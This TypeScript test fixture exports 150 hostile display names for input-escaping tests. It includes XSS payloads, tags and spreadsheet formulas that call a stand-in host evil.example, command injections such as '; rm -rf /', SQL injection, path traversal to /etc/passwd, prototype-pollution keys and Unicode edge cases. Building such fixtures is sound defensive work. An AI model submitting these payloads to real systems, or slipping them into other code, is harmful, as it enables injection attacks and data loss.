// Names that somebody may choose to see what happens: 150, up to 128 bytes each.

const scripts = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=//evil.example/x>", "<embed src=//evil.example/x>", "<form action=//evil.example><button>x", "<math><mi xlink:href=javascript:alert(1)>x",
  "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>x", "<template><script>alert(1)</script></template>", "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><img src=x onerror=alert(1)></xmp>", "<title><img src=x onerror=alert(1)></title>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
  "</option></select><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>", "<plaintext>",
];
const broken = ['" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x.png", "https://evil.example/x.png", "\\\\evil.example\\x"];
const templates = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%s%s%n", "$(id)", "`id`", "; rm -rf /", "' OR '1'='1", "\"; DROP TABLE users;--", "%27%20OR%201=1", "../../../etc/passwd", "..%2f..%2fx", "%00", "\\u0000", "&lt;script&gt;", "&#x3C;script&#x3E;", "&amp;amp;"];
const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "0", "-1", "1e309", "[object Object]", "length", "then", "key", "ref", "children"];
const sheets = ["=1+1", "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3", "@SUM(1+1)", "=IMPORTXML(\"//evil.example\",\"a\")", "+", "-", "=", "@", "'=1", "\"=1", ";=1", ",=1", "＝1+1", "＋1", "－1", "＠1"];
const shapes = [
  "W".repeat(128), "verylongwordwithoutanybreak".repeat(4), "i".repeat(128), "漢字".repeat(21), "ﷺ".repeat(30), "👍🏽".repeat(15), "Z̷͖͛a̶̡͝l̵̗̊g̸̖̈́o̷̪͆", "ا لعربية نص من اليمين", "עברית מימין לשמאל", "Ünïcödé ßtraße ĳ ǅ", "ﬁ ligature ﬀ", "a b", "—", "…", "𝕸𝖆𝖙𝖍", "ꙮ", "ＦＵＬＬ　ＷＩＤＴＨ", "🏴☠️🏳️🌈", "1/2 ½ ⅓", "a".repeat(60) + " " + "b".repeat(60),
];

const all = [...scripts, ...broken, ...templates, ...names, ...sheets, ...shapes];

/** hostile are the names. What is missing to 150 are the scripts once more, behind the end of an attribute. */
export const hostile: string[] = [...all, ...scripts.map((s) => '">' + s), ...broken.map((s) => s + "\\")].slice(0, 150);
